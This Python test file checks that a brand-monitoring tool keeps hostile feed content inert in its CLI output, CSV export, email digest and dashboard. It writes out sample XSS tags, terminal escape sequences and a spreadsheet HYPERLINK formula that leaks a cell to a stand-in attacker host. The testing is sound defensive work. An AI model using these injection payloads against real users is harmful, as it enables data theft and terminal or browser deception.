"""Hostile feed content stays inert text from collection to every place veille shows it.

A corpus of XSS, formula, SQL, template, header and terminal-escape payloads
(``tests/data/hostile_content.json``) is served on 127.0.0.1 in the titles, authors, links and
bodies of RSS items naming the brand, collected by a real ``veille collect``, then read back
through ``veille mentions`` (table, JSON, CSV), an emailed digest (a real SMTP server) and the
dashboard. Payloads with characters XML forbids (NUL, ESC…) travel in a second, malformed feed,
which feedparser still reads: real feeds carry them too.

The documented sanitised form of collected text: control characters other than whitespace are
removed, whitespace runs become one space, HTML is read as text (entities decoded once).
"""

from __future__ import annotations

import csv
import io
import json
import re
import time
from collections.abc import Iterator
from dataclasses import dataclass, replace
from datetime import UTC, datetime, timedelta
from email.utils import format_datetime
from html import escape
from html.parser import HTMLParser
from pathlib import Path

import pytest
from sqlalchemy import func, inspect, select

from tests.support.browser import TestClient, save_items
from tests.support.feedserver import FeedServer
from tests.support.project import (
    project_engine_fixture,  # noqa: F401
    run,
    write_config,
)
from tests.support.smtpserver import SmtpServer
from tests.support.stores import make_item
from veille.normalize import normalize
from veille.normalize.text import collapse_whitespace, strip_control_characters
from veille.settings import load_settings
from veille.store import Store
from veille.store.schema import document_table, mention_table
from veille.types import RawMention
from veille.web import create_app

pytestmark = pytest.mark.usefixtures("project_engine")

CORPUS_FILE = Path(__file__).resolve().parent / "data" / "hostile_content.json"
# Characters XML 1.0 cannot carry, even as character references.
_NOT_IN_XML = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]")
# What a terminal acts on instead of showing: C0/C1 controls and bidirectional overrides.
_TERMINAL_CONTROLS = re.compile(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
COLLECT_DEADLINE = 60.0  # seconds for one pass over the corpus, on a busy machine
_LINK_SCHEMES = ("javascript:", "data:", "vbscript:")
_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_DANGEROUS_TAGS = {"script", "img", "svg", "iframe", "object", "embed", "style", "link", "meta"}
_DIGEST = """
[smtp]
host = "127.0.0.1"
port = {port}
security = "none"
from = "veille@example.org"
timeout = 5

[[digests]]
name = "hostile"
to = ["com@example.org"]
brands = ["Danone"]
language = "en"
"""


@dataclass(frozen=True)
class Payload:
    """One corpus entry and where it was put in its feed item."""

    name: str
    text: str
    stored: str | None = None  # how it is stored, when not its sanitised form

    @property
    def is_link(self) -> bool:
        """Whether the payload is itself a link (it becomes the item's link)."""
        return self.text.strip().lower().startswith(_LINK_SCHEMES)

    @property
    def link(self) -> str:
        """The item's link: the payload, or a web link carrying it raw in the query string."""
        if self.is_link:
            return self.text
        return f"https://example.org/hostile/{self.name}?q={self.text}"

    @property
    def stored_text(self) -> str:
        """The payload as stored."""
        return self.stored if self.stored is not None else sanitised(self.text)

    @property
    def title(self) -> str:
        """The title as stored: the brand, then the payload."""
        return sanitised(f"Danone {self.stored_text}")

    @property
    def guid(self) -> str:
        return f"hostile-{self.name}"


def sanitised(text: str) -> str:
    """Collected text in its documented stored form."""
    return collapse_whitespace(strip_control_characters(text))


def load_corpus() -> list[Payload]:
    """The payloads of the corpus file, ``repeat`` applied."""
    entries = json.loads(CORPUS_FILE.read_text(encoding="utf-8"))["payloads"]
    return [Payload(e["name"], e["payload"] * e.get("repeat", 1), e.get("stored")) for e in entries]


CORPUS = load_corpus()
# An hour ago: a digest's first send covers the mentions published in its last period.
PUBLISHED = format_datetime(datetime.now(UTC) - timedelta(hours=1), usegmt=True)


def rss(payloads: list[Payload]) -> bytes:
    """An RSS feed with one item per payload, in its title, author, link and body.

    Titles and bodies are HTML in RSS: the payload is escaped once more so that the stored text
    is the payload itself; the body also carries it unescaped, as live HTML to be read as text.
    """
    items = []
    for payload in payloads:
        body = f"<p>Danone {payload.name}</p><p>{escape(payload.text)}</p>{payload.text}"
        items.append(
            f'<item><guid isPermaLink="false">{payload.guid}</guid>'
            f"<title>{escape(escape('Danone ' + payload.text))}</title>"
            f"<link>{escape(payload.link)}</link>"
            f"<author>{escape(payload.text)}</author>"
            f"<description>{escape(body)}</description>"
            f"<pubDate>{PUBLISHED}</pubDate></item>"
        )
    return (
        '<?xml version="1.0" encoding="utf-8"?>\n<rss version="2.0"><channel>'
        "<title>Hostile</title><link>https://example.org/</link>"
        + "".join(items)
        + "</channel></rss>"
    ).encode("utf-8")


@dataclass(frozen=True)
class Project:
    """A collected project: its configuration and the SMTP server its digest goes to."""

    config: Path
    smtp: SmtpServer

    def database_url(self) -> str:
        return load_settings(self.config).database_url


@pytest.fixture
def project(tmp_path: Path, feed_server: FeedServer) -> Iterator[Project]:
    """Both hostile feeds collected once by ``veille collect``."""
    in_xml = [p for p in CORPUS if not _NOT_IN_XML.search(p.text)]
    not_in_xml = [p for p in CORPUS if _NOT_IN_XML.search(p.text)]
    assert in_xml and not_in_xml
    feed_server.add("/hostile.xml", rss(in_xml))
    feed_server.add("/controls.xml", rss(not_in_xml))
    with SmtpServer() as smtp:
        config = write_config(
            tmp_path,
            {
                "hostile": feed_server.url("/hostile.xml"),
                "controls": feed_server.url("/controls.xml"),
            },
            extra=_DIGEST.format(port=smtp.port),
        )
        started = time.monotonic()
        result = run(config, "collect", "--quiet")
        assert result.exit_code == 0, result.output
        assert "0 failed" in result.output, result.output
        # Bounded: a long author is never searched in quadratic time (seconds normally, minutes
        # when it is).
        assert time.monotonic() - started < COLLECT_DEADLINE
        yield Project(config, smtp)


def test_collected_payloads_are_stored_as_text_and_the_database_is_intact(
    project: Project,
) -> None:
    store = Store.open(project.database_url())
    try:
        with store.engine.connect() as connection:
            rows = connection.execute(
                select(
                    document_table.c.title,
                    document_table.c.text,
                    document_table.c.url,
                    document_table.c.author_name,
                )
            ).all()
            mention_count = connection.execute(
                select(func.count()).select_from(mention_table)
            ).scalar()
        tables = set(inspect(store.engine).get_table_names())
    finally:
        store.close()
    # Every item was stored once, as text: no SQL payload dropped or changed a table.
    assert {"documents", "mentions", "brands", "sources"} <= tables
    assert len(rows) == len(CORPUS) == mention_count
    stored = {row.title: row for row in rows}
    for payload in CORPUS:
        row = stored[payload.title]  # the title kept whole, in its sanitised form
        assert payload.stored_text in row.text, payload.name
        if payload.is_link:
            assert row.url is None, payload.name  # never kept as a link
        else:
            assert row.url.startswith("https://example.org/hostile/"), payload.name
        assert row.author_name, payload.name
        for value in (row.title, row.text, row.url or "", row.author_name):
            assert not re.search(r"[\x00-\x08\x0e-\x1b\x7f]", value), payload.name


def test_the_mentions_table_shows_no_terminal_controls(project: Project) -> None:
    result = run(project.config, "mentions", "--limit", "500")
    assert result.exit_code == 0
    assert f"{len(CORPUS)} mention(s)." in result.output
    offending = [line for line in result.output.splitlines() if _TERMINAL_CONTROLS.search(line)]
    assert offending == []
    # Markup-looking and template text is shown as it is, not interpreted.
    assert "{{7*7}}" in result.output
    assert "<script>alert('xss')</script>" in result.output


def test_rows_stored_with_terminal_escapes_still_print_inert(project: Project) -> None:
    """Text that reached the database before collection removed controls is shown as symbols."""
    hostile = "Danone \x1b]0;pwned\x07\x1b[2J\x1b]8;;http://evil.example\x1b\\x\x08 \u202eexe.txt"
    store = Store.open(project.database_url())
    try:
        item = make_item(
            "escapes",
            brands=("Danone",),
            source="hostile",
            title=hostile,
            author_name="\x1b[31mred\x1b[0m",
        )
        save_items(store, [item], source="hostile")
    finally:
        store.close()
    result = run(project.config, "mentions", "--limit", "500", "--search", "pwned")
    assert result.exit_code == 0, result.output
    assert not _TERMINAL_CONTROLS.search(result.output)
    assert "␛]0;pwned␇␛[2J" in result.output  # visible, and still readable
    for command in (("stats", "--by", "author"), ("query", "test", "danone*")):
        result = run(project.config, *command)
        assert result.exit_code == 0, result.output
        assert not _TERMINAL_CONTROLS.search(result.output), command


def test_api_text_with_nul_and_lone_surrogates_is_stored_clean(project: Project) -> None:
    """JSON APIs can carry what no feed can: NUL and half a surrogate pair, in any field."""
    raw = RawMention(
        source="hostile",
        url="https://example.org/api/1\x00",
        title="Danone nul\x00 and half an emoji \ud83d",
        content_html="<p>body\x00\udc00</p>",
        author_name="Ann\x00ie",
        platform="forum",
        extra={"platform_id": "id\x00\ud800-1"},
    )
    item = replace(make_item("api", brands=("Danone",)), document=normalize(raw))
    store = Store.open(project.database_url())
    try:
        save_items(store, [item], source="hostile")
    finally:
        store.close()
    result = run(project.config, "mentions", "--format", "json", "--platform", "forum")
    assert result.exit_code == 0, result.output
    [row] = json.loads(result.output)
    assert (row["title"], row["text"], row["author"]) == (
        "Danone nul and half an emoji",
        "body",
        "Annie",
    )
    assert row["url"] == "https://example.org/api/1"


def test_json_output_round_trips_the_stored_text(project: Project) -> None:
    for output_format in ("json", "jsonl"):
        result = run(project.config, "mentions", "--format", output_format, "--limit", "500")
        assert result.exit_code == 0
        if output_format == "json":
            rows = json.loads(result.output)
        else:
            rows = [json.loads(line) for line in result.output.splitlines()]
        assert {row["title"] for row in rows} == {p.title for p in CORPUS}
        for row in rows:
            assert row["url"] is None or row["url"].startswith("https://example.org/hostile/")
        assert "\x1b" not in result.output and "\x00" not in result.output


def test_csv_cells_never_start_a_formula(project: Project) -> None:
    result = run(project.config, "mentions", "--format", "csv", "--limit", "500")
    assert result.exit_code == 0
    default_limit = csv.field_size_limit(1 << 24)  # the very long payload is one cell
    try:
        table = list(csv.reader(io.StringIO(result.output)))
    finally:
        csv.field_size_limit(default_limit)
    header, records = table[0], table[1:]
    assert len(records) == len(CORPUS)
    for record in records:
        for field, cell in zip(header, record, strict=True):
            if field == "sentiment":
                float(cell)  # a number, shown as one
                continue
            assert not cell.startswith(_FORMULA_STARTS), (field, cell)
    titles = {dict(zip(header, record, strict=True))["title"] for record in records}
    # Neutralised, not removed: the text is still there behind the quote.
    assert '\'=HYPERLINK("http://evil.example/?leak="&A1,"Click")' not in titles
    assert 'Danone =HYPERLINK("http://evil.example/?leak="&A1,"Click")' in titles


class Elements(HTMLParser):
    """Every element of an HTML document with its attributes, and its text."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.texts: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.texts.append(data)

    @property
    def text(self) -> str:
        return "".join(self.texts)

    def assert_inert(self, *, allowed_tags: frozenset[str] = frozenset()) -> None:
        """No element that runs or loads anything, no event handler, only web links."""
        tags = {tag for tag, _ in self.elements}
        assert not (tags & (_DANGEROUS_TAGS - allowed_tags)), tags
        for tag, attrs in self.elements:
            assert not [name for name in attrs if name.startswith("on")], (tag, attrs)
            style = str(attrs.get("style") or "").lower()
            assert "expression(" not in style and "javascript:" not in style, (tag, style)
            for name in ("href", "src", "action", "formaction"):
                value = (attrs.get(name) or "").strip().lower()
                if (tag, name, value) == ("link", "href", "data:,"):
                    continue  # the page's own empty icon, which spares a request
                assert not value.startswith(_LINK_SCHEMES), (tag, name, value)
                if name == "href" and value:
                    assert value.startswith(("http://", "https://", "/", "?", "#", "mailto:")), (
                        tag,
                        value,
                    )


def test_the_digest_is_inert_in_every_part(project: Project) -> None:
    result = run(project.config, "digest")
    assert result.exit_code == 0, result.output
    [message] = project.smtp.messages
    # One Subject, no header smuggled in through a title.
    assert len(message.get_all("Subject") or []) == 1
    assert message["Bcc"] is None and message["X-Injected"] is None
    assert not re.search(r"[\r\n]", str(message["Subject"]))
    html_part = message.get_body(("html",))
    text_part = message.get_body(("plain",))
    assert html_part is not None and text_part is not None
    html, text = html_part.get_content(), text_part.get_content()
    page = Elements(html)
    page.assert_inert(allowed_tags=frozenset({"style", "meta"}))
    assert "<script>alert('xss')</script>" in page.text  # shown, as text
    assert "{{7*7}}" in page.text and "{% for x in range(3) %}" in page.text
    assert "{{7*7}}" in text
    assert not re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]", text)
    assert "javascript:" not in html.lower().replace("javascript:alert", "")


def test_the_dashboard_shows_payloads_as_text(project: Project) -> None:
    store = Store.open(project.database_url(), read_only=True)
    try:
        with TestClient(create_app(store)) as client:
            api = client.get("/api/mentions", params={"since": "2026-03-01", "limit": "500"})
            assert api.status_code == 200
            rows = api.json()["mentions"]
            assert {row["title"] for row in rows} == {p.title for p in CORPUS}
            listing = client.get("/mentions", params={"since": "2026-03-01", "limit": "500"})
            assert listing.status_code == 200
            page = Elements(listing.text)
            page.assert_inert(allowed_tags=frozenset({"link", "meta"}))
            for marker in ("<script>alert('xss')</script>", "<img src=x onerror=alert(1)>"):
                assert f"Danone {marker}" in page.text
            story_links = {
                str(attrs["href"])
                for tag, attrs in page.elements
                if tag == "a" and str(attrs.get("href")).startswith("/stories/")
            }
            assert story_links == {f"/stories/{row['story_id']}" for row in rows}
            grouped = client.get("/stories", params={"since": "2026-03-01", "limit": "500"})
            assert grouped.status_code == 200
            stories = Elements(grouped.text)
            stories.assert_inert(allowed_tags=frozenset({"link", "meta"}))
            for marker in ("<script>alert('xss')</script>", "<img src=x onerror=alert(1)>"):
                assert f"Danone {marker}" in stories.text
            assert story_links == {
                str(attrs["href"])
                for tag, attrs in stories.elements
                if tag == "a" and str(attrs.get("href")).startswith("/stories/")
            }
            for link in story_links:
                story = client.get(link)
                assert story.status_code == 200, link
                Elements(story.text).assert_inert(allowed_tags=frozenset({"link", "meta"}))
    finally:
        store.close()
